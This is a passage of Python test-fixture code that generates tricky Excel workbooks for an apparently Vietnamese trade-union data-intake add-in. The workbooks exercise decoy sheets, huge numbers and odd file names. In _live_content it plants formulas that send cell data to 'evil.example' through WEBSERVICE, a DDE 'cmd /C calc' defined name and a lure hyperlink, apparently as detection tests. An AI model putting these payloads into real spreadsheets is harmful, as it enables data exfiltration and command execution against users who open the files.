            case = Case("sheet-outside-worksheets", rows=2, role=USED)
        put(case, zip_bytes(parts), unit=c)
    # --- formatting without values out to the last row: read as the small sheet it is ------------------------
    for last in (1048576, 500000):
        c = fresh()
        rows = rows_for(c, 2)
        parts = parts_of_bytes(filled(c, rows))
        target = sheet_part(parts, SK)
        fmt = b"".join(b'<row r="%d" s="1" customFormat="1"><c r="A%d" s="1"/><c r="XFD%d" s="1"/></row>' % (r, r, r)
                       for r in range(1000, last + 1, 997)) + b'<row r="%d"><c r="XFD%d" s="1"/></row>' % (last, last)
        parts[target] = parts[target].replace(b"</sheetData>", fmt + b"</sheetData>")
        put(Case("formatted-far-cells", rows=2, role=USED), zip_bytes(parts), unit=c)
    # --- rows below a gap, rows far down, pre-numbered STT: every row with content is read, no phantom row -----
    for gap in (250, 4000):
        c = fresh()
        rows = rows_for(c, 3)
        wb = openpyxl.load_workbook(io.BytesIO(filled(c, rows[:1])))
        ws = wb[SK]
        for k, row in enumerate(rows[1:]):
            r = L.TABLE_HEADER_ROW + 1 + gap * (k + 1)
            for label, value in row.items():
                ws.cell(r, column_index_from_string(COLUMN[label])).value = value
        p = name("rows-below-gap", unit=c)
        wb.save(p)
        out[p] = Case("rows-below-gap", rows=3, role=USED)
    for n_stt in (100, 600):
        c = fresh()
        rows = rows_for(c, 2)
        wb = openpyxl.load_workbook(io.BytesIO(filled(c, rows)))
        ws = wb[SK]
        for k in range(n_stt):
            ws.cell(L.TABLE_HEADER_ROW + 1 + k, 1).value = k + 1
        p = name("prefilled-stt", unit=c)
        wb.save(p)
        out[p] = Case("prefilled-stt", rows=2, role=USED)
    # --- a hidden decoy sheet whose name is the data sheet's in another Unicode form (or case) ------------------
    for decoy_name, first in ((unicodedata.normalize("NFD", SK), True), (SK + "  ", False), (" " + SK, True)):
        c = fresh()
        rows = rows_for(c, 2)
        wb = openpyxl.load_workbook(io.BytesIO(filled(c, rows)))
        real = wb[SK]
        decoy = wb.create_sheet(decoy_name, 0 if first else None)
        for line in real.iter_rows(min_row=1, max_row=L.TABLE_HEADER_ROW, values_only=True):
            decoy.append(list(line))
        for k in range(5):
            decoy.append([k + 1, f"Sáng kiến giả {k}", "Người lạ"] + [None] * 15)
        decoy.sheet_state = "hidden"
        p = name("decoy-sheet", unit=c)
        wb.save(p)
        out[p] = Case("decoy-sheet", codes=(("sheet-duplicate", SK, None),), rows=2, role=USED)
    # --- numbers no output can hold: a 400-digit amount, 1e300, a 20-digit member count ------------------------
    for label, value in (("Giá trị làm lợi (đồng)", "9" * 400), ("Giá trị làm lợi (đồng)", 1e300),
                         ("Năm sinh", 1e20), ("Giá trị làm lợi (đồng)", "1" * 16)):
        c = fresh()
        rows = rows_for(c, 2)
        rows[0][label] = value
        put(Case("huge-number", codes=(("value-too-large", SK, icell(label, 0)),), rows=1, role=USED),
            filled(c, rows), unit=c)
    c = fresh()
    put(Case("huge-number", codes=(("value-too-large", DV, ucell("SO_DOAN_VIEN")),), role=USED),
        filled(c, unit_over={"SO_DOAN_VIEN": "12345678901234567890"}), unit=c)
    # --- live content outside cell formulas: defined names, conditional formats, validations, links, comments ---
    for k in range(3):
        c = fresh()
        rows = rows_for(c, 2)
        put(Case("live-content", rows=2, role=USED), _live_content(filled(c, rows), k), unit=c)
    # --- file names of any bytes: not UTF-8, terminal escape codes, bidi override -------------------------------
    for raw in (b"\xff\xfe t\xe9p cu.xlsx", b"\x1b[2J\x1b[31mdo.xlsx", "t\u202eslx.exe".encode() + b".xlsx"):
        c = fresh()
        rows = rows_for(c, 1)
        p = Path(os.fsdecode(os.fsencode(str(inbox)) + b"/" + c.code.encode() + b" - " + raw))
        p.write_bytes(filled(c, rows))
        out[p] = Case("odd-file-name", rows=1, role=USED)

    # --- LibreOffice round trips: another producer's quirks, .xlsx and legacy .xls (BIFF8) -------------------------
    if libreoffice and find_soffice():
        lo_src = work / "lo"
        lo_src.mkdir()
        srcs, n_rows = [], {}
        for fmt in ("xlsx", "xls"):
            for i in range(3):
                c = fresh()
                rows = rows_for(c, i + 1)
                if i == 2:  # legacy text survives the trip too
                    rows[0]["Tên sáng kiến"] = from_unicode(str(rows[0]["Tên sáng kiến"]), "vni")
                s = lo_src / f"{c.code} - lo-{fmt}{i}.xlsx"
                s.write_bytes(filled(c, rows))
                srcs.append((fmt, s))
                n_rows[s.stem] = len(rows)
        for fmt in ("xlsx", "xls"):
            outdir = work / f"lo-{fmt}"
            for p in convert_all([s for f, s in srcs if f == fmt], fmt, outdir):
                q = inbox / f"{p.stem}-libreoffice.{fmt}"
                shutil.copyfile(p, q)
                codes = (("normalized-legacy-text", SK, icell("Tên sáng kiến", 0)),) if p.stem.endswith("2") else ()
                out[q] = Case(f"libreoffice-{fmt}", codes=codes, rows=n_rows[p.stem], role=USED)
    return out


def _move_sheet(parts: dict[str, bytes], sheet: str, new: str) -> str:
    """Store ``sheet``'s part at ``new`` (any folder, any extension), relationships and content types following."""
    old = sheet_part(parts, sheet)
    parts[new] = parts.pop(old)
    rels = old.rsplit("/", 1)[0] + "/_rels/" + old.rsplit("/", 1)[1] + ".rels"
    if rels in parts:
        parts[new.rsplit("/", 1)[0] + "/_rels/" + new.rsplit("/", 1)[1] + ".rels"] = parts.pop(rels)
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(old[3:].encode(), new[3:].encode())
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(("/" + old).encode(), ("/" + new).encode())
    return new


def _live_content(data: bytes, variant: int) -> bytes:
    """The workbook with active content where only cell formulas used to be checked."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    from openpyxl.comments import Comment
    from openpyxl.formatting.rule import FormulaRule
    from openpyxl.workbook.defined_name import DefinedName
    from openpyxl.worksheet.datavalidation import DataValidation

    ws = wb[SK]
    if variant == 0:
        wb.defined_names["GUI_DI"] = DefinedName("GUI_DI", attr_text='WEBSERVICE("http://evil.example/?"&\'Đơn vị\'!$C$5)')
        wb.defined_names["CHAY"] = DefinedName("CHAY", attr_text="cmd|' /C calc'!A0")
    elif variant == 1:
        ws.conditional_formatting.add("B4:B20", FormulaRule(formula=['LEN(WEBSERVICE("http://evil.example/?"&B4))>0']))
        dv = DataValidation(type="custom", formula1='ISNUMBER(WEBSERVICE("http://evil.example/"&B4))')
        ws.add_data_validation(dv)
        dv.add("C4:C20")
    else:
        ws["R4"].hyperlink = "http://evil.example/nhan-du-lieu"
        ws["R5"].comment = Comment("Bấm vào ô R4", "người lạ")
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


_KSO_CUSTOM = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Properties xmlns="http://schemas.openxmlformats.org/'
               b'officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/'
               b'docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="KSOProductBuildVer">'
               b'<vt:lpwstr>1066-11.2.0.11537</vt:lpwstr></property><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" '
               b'pid="3" name="ICV"><vt:lpwstr>5E0F7B8A1D2C4B3E9F6A7C8D9E0F1A2B</vt:lpwstr></property></Properties>')


def _quirk(data: bytes, quirk: str) -> bytes:
    """``data`` rewritten the way another producer writes an .xlsx (same cells, other bytes)."""
    parts = parts_of_bytes(data)
    if quirk == "wps-custom-props":  # WPS adds custom document properties and an app name of its own
        parts["docProps/custom.xml"] = _KSO_CUSTOM
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", (
            b'<Override PartName="/docProps/custom.xml" '
            b'ContentType="application/vnd.openxmlformats-officedocument.custom-properties+xml"/></Types>'))
        parts["_rels/.rels"] = parts["_rels/.rels"].replace(b"</Relationships>", (
            b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'custom-properties" Target="docProps/custom.xml"/></Relationships>'))
        if "docProps/app.xml" in parts:
            parts["docProps/app.xml"] = re.sub(rb"<Application>[^<]*</Application>", b"<Application>WPS Spreadsheets</Application>",
                                               parts["docProps/app.xml"])
    elif quirk == "absolute-targets":  # part names from the package root
        rels = "xl/_rels/workbook.xml.rels"
        parts[rels] = re.sub(rb'Target="(?!/)([^"]+)"', rb'Target="/xl/\1"', parts[rels])
    elif quirk == "prefixed-xml":  # the main namespace under a prefix, as Open XML SDK tools write it
        for name in [n for n in parts if n.startswith("xl/worksheets/sheet") or n == "xl/workbook.xml"]:
            x = parts[name].replace(b'xmlns="' + MAIN_NS + b'"', b'xmlns:x="' + MAIN_NS + b'"', 1)
            parts[name] = re.sub(rb"<(/?)([A-Za-z][A-Za-z0-9]*)(?=[\s/>])", rb"<\1x:\2", x)
    elif quirk == "utf8-bom":
        for name in [n for n in parts if n.endswith(".xml") and n.startswith("xl/")]:
            parts[name] = b"\xef\xbb\xbf" + parts[name]
    elif quirk == "no-shared-strings-part":  # every string inline; no sharedStrings part at all
        items = re.findall(rb"<si>(.*?)</si>", parts.pop("xl/sharedStrings.xml", b""), re.S)

        def inline(m: re.Match) -> bytes:
            attrs = re.sub(rb'\st="s"', b"", m.group(1))
            return b"<c" + attrs + b' t="inlineStr"><is>' + items[int(m.group(2))] + b"</is></c>"

        for name in [n for n in parts if n.startswith("xl/worksheets/sheet")]:
            parts[name] = re.sub(rb'<c((?:\s[^>]*?)?\st="s"[^>]*)><v>(\d+)</v></c>', inline, parts[name])
        parts["[Content_Types].xml"] = re.sub(rb'<Override PartName="/xl/sharedStrings.xml"[^>]*/>', b"",
                                              parts["[Content_Types].xml"])
        parts["xl/_rels/workbook.xml.rels"] = re.sub(rb'<Relationship [^>]*sharedStrings[^>]*/>', b"",
                                                     parts["xl/_rels/workbook.xml.rels"])
    return zip_bytes(parts)


def _with_fonts(work: Path, data: bytes, cells: dict[str, list[str]], font: str) -> bytes:
    """The workbook re-saved by openpyxl with ``cells`` (by sheet) shown in ``font``."""
    src = _tmp_write(work, data)
    wb = openpyxl.load_workbook(src)
    for sheet, refs in cells.items():
        for ref in refs:
            wb[sheet][ref].font = Font(name=font, size=12)
    wb.save(src)
    return src.read_bytes()


def parts_of_bytes(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {n: zf.read(n) for n in zf.namelist()}


def _tmp_write(work: Path, data: bytes) -> Path:
    p = work / f"t{len(list(work.iterdir()))}.xlsx"
    p.write_bytes(data)
    return p


DISTRICT, OTHER = "HX", "HY"


CORPUS_UNITS = 200  # every content variant of the corpus is its own unit


def make_registry(campaign, n_units: int = CORPUS_UNITS):
    """A registry: district HX with ``n_units`` CĐCS, district HY with 3."""
    from addin.registry import District, Registry

    districts = (District(code=DISTRICT, name="Liên đoàn Lao động huyện Hòa Xuân", kind="LĐLĐ huyện"),
                 District(code=OTHER, name="Liên đoàn Lao động huyện Yên Hà", kind="LĐLĐ huyện"))
    cdcs = [Cdcs(code=f"{DISTRICT}{n:03d}", name=f"Công đoàn cơ sở Đơn vị số {n} Hòa Xuân", parent=DISTRICT,
                 bloc=campaign.blocs[n % 2], members=20 + n, contact=f"Người liên hệ {n}",
                 phone=f"09{n:08d}", email=f"cdcs{n}@example.vn") for n in range(n_units)]
    cdcs += [Cdcs(code=f"{OTHER}{n:03d}", name=f"Công đoàn cơ sở Yên Hà {n}", parent=OTHER,
                  bloc=campaign.blocs[0], members=30) for n in range(3)]
    return Registry(province="Đắk Nông", province_code="DNO", districts=districts, cdcs=tuple(cdcs))
